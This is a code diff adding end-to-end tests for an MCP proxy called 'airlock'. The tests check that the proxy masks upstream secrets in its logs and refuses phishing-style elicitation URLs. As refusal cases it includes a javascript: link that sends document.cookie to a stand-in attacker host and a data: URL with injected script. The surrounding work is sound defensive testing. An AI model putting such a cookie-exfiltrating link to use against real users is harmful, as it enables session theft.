@@ -984,6 +984,96 @@ fn a_change_in_a_tools_meta_is_held_until_approved() {
     assert!(listed.contains("_meta"), "{listed}");
 }
 
+/// Runs `airlock proxy` with the default log level (none set), sends it `messages` as a
+/// client over stdio, waits for the answer to the last one; its stdout and stderr.
+fn raw_stdio(dir: &Path, config: &str, messages: &[Value]) -> (String, String) {
+    use std::io::{BufRead as _, Read as _, Write as _};
+    let config_path = dir.join("airlock.toml");
+    std::fs::write(&config_path, config).unwrap();
+    let command = proxy_command(&config_path, &own_server());
+    let mut child = Command::new(&command[0])
+        .args(&command[1..])
+        .env_remove("RUST_LOG")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let stdout = child.stdout.take().unwrap();
+    let mut stderr = child.stderr.take().unwrap();
+    let err = std::thread::spawn(move || {
+        let mut buf = String::new();
+        let _ = stderr.read_to_string(&mut buf);
+        buf
+    });
+    let last_id = messages.iter().rev().find_map(|m| m.get("id").cloned());
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut lines = std::io::BufReader::new(stdout).lines();
+        let mut out = String::new();
+        while let Some(Ok(line)) = lines.next() {
+            let done = serde_json::from_str::<Value>(&line)
+                .is_ok_and(|m| m.get("id").is_some() && m.get("id") == last_id.as_ref());
+            out.push_str(&line);
+            out.push('\n');
+            if done {
+                break;
+            }
+        }
+        let _ = tx.send(out);
+    });
+    for message in messages {
+        writeln!(stdin, "{message}").unwrap();
+    }
+    let out = rx.recv_timeout(Duration::from_secs(60)).unwrap_or_default();
+    drop(stdin);
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while child.try_wait().unwrap().is_none() && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    (out, err.join().unwrap())
+}
+
+/// The messages of a client that initializes and calls `tool` with `arguments` (id 2).
+fn client_calling(tool: &str, arguments: Value) -> Vec<Value> {
+    vec![
+        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+            "protocolVersion": "2025-06-18", "capabilities": {},
+            "clientInfo": {"name": "raw", "version": "1"}}}),
+        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
+        json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+            "params": {"name": tool, "arguments": arguments}}),
+    ]
+}
+
+/// The proxy's own log, at its default level, holds nothing the upstream said unmasked:
+/// not its notifications, not its instructions (the MCP library it is built on logs both
+/// raw at `info`).
+#[test]
+fn the_proxys_log_at_its_default_level_holds_no_secret_of_the_upstreams() {
+    needs_e2e!();
+    let dir = common::Scratch::new("proxy", "own-log");
+    let config = "[proxy.env]\nINSTRUCTIONS = \"Ask ops-lead@example.org for a key.\"\n";
+    let secret = "deploy key AKIAZ6PW3QJ7HXN4KD2M for jane.doe@example.com";
+    let (out, log) = raw_stdio(
+        &dir,
+        config,
+        &client_calling("log", json!({"text": secret})),
+    );
+    assert!(out.contains("\"id\":2"), "no answer: {out}\n{log}");
+    for value in [
+        "AKIAZ6PW3QJ7HXN4KD2M",
+        "jane.doe@example.com",
+        "ops-lead@example.org",
+    ] {
+        assert!(!log.contains(value), "{value} in the proxy's log:\n{log}");
+        assert!(!out.contains(value), "{value} sent to the client:\n{out}");
+    }
+}
+
 /// An upstream cannot make the proxy do unbounded work: too many tools or pages refuse
 /// the start at once (not after the start timeout), and a schema too large to compile is
 /// left out, at start-up or listed mid-session, while calls go on being served.
@@ -1396,6 +1486,88 @@ fn sampling_requests_reach_a_client_that_offers_it_masked_both_ways() {
         "{}",
         report["calls"][0]
     );
+}
+
+/// The upstream's elicitations reach the client only in a mode it declared and, in URL
+/// mode, only with an `https:` URL (a `javascript:` or plain-`http:` link to phish with is
+/// refused before the client sees it); what goes each way is masked, and every request,
+/// relayed or refused, is in the audit log.
+#[test]
+fn elicitations_are_relayed_within_the_rules_masked_and_audited() {
+    needs_e2e!();
+    let dir = common::Scratch::new("proxy", "elicitation");
+    let audit = dir.join("audit.jsonl");
+    let config = format!(
+        "[audit]\npath = \"{}\"\nfsync = \"always\"\n",
+        audit.display()
+    );
+    let elicit =
+        |mode: &str, url: &str| json!({"name": "elicit", "arguments": {"mode": mode, "url": url}});
+    let report = drive_plan(
+        &dir,
+        &config,
+        &own_server(),
+        json!([
+            elicit("url", "https://login.example.com/device"),
+            elicit(
+                "url",
+                "javascript:fetch('https://evil.example/'+document.cookie)"
+            ),
+            elicit("url", "http://login.example.com/device"),
+            elicit("url", "data:text/html,<script>alert(1)</script>"),
+            elicit("form", ""),
+        ]),
+        json!({}),
+        json!({"elicitation": true}),
+    );
+    let texts: Vec<&str> = report["calls"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["text"].as_str().unwrap_or_default())
+        .collect();
+    assert!(texts[0].starts_with("answered: accept"), "{report}");
+    for refused in &texts[1..4] {
+        assert!(
+            refused.starts_with("refused: ") && refused.contains("https"),
+            "{refused}"
+        );
+    }
+    // The form's answer (a card number) reaches the upstream masked, as its question (an
+    // e-mail address) reached the client.
+    assert!(texts[4].starts_with("answered: accept"), "{}", texts[4]);
+    assert!(!texts[4].contains("4111 1111 1111 1111"), "{}", texts[4]);
+    let elicited = report["elicited"].as_array().unwrap();
+    assert_eq!(
+        elicited.len(),
+        2,
+        "only the allowed two reach the client: {report}"
+    );
+    assert_eq!(elicited[0]["url"], "https://login.example.com/device");
+    let question = elicited[1]["message"].as_str().unwrap();
+    assert!(!question.contains("jane.doe@example.com"), "{question}");
+
+    // Five calls and five requests of the upstream's: four refused or answered, recorded.
+    assert_audit_verifies(&audit);
+    let log = std::fs::read_to_string(&audit).unwrap();
+    let records: Vec<Value> = log
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let elicitations: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["tool"] == "mcp:elicitation/create")
+        .collect();
+    assert_eq!(elicitations.len(), 5, "{log}");
+    assert_eq!(
+        elicitations
+            .iter()
+            .filter(|r| r["decision"] == "refused")
+            .count(),
+        3,
+        "{log}"
+    );
+    assert!(!log.contains("4111 1111 1111 1111") && !log.contains("jane.doe@example.com"));
 }
 
 #[test]
